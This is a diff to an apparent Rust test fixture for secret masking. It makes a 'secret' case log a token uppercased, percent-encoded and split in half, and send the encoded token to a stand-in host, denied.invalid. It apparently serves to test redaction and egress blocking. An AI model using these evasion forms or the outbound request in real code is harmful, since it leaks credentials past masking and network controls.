@@ -168,6 +168,22 @@ fn run() -> Result<()> {
         "secret" => {
             let token = vars::require("token")?;
             log::info(format!("token is {token}"));
+            // The forms a reader would recognise: another case, a URL's
+            // percent-encoding, and the token cut across two log lines.
+            log::info(format!("shouted: {}", token.to_uppercase()));
+            let encoded: String = token
+                .bytes()
+                .map(|b| match b {
+                    b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
+                        (b as char).to_string()
+                    }
+                    _ => format!("%{b:02X}"),
+                })
+                .collect();
+            let _ = http::get(format!("http://denied.invalid/?t={encoded}")).send();
+            let half = token.len() / 2;
+            log::info(format!("first half {}", &token[..half]));
+            log::info(format!("{} second half", &token[half..]));
             step(&format!("step {token}"), || {
                 check(&format!("check {token}"), false);
             });
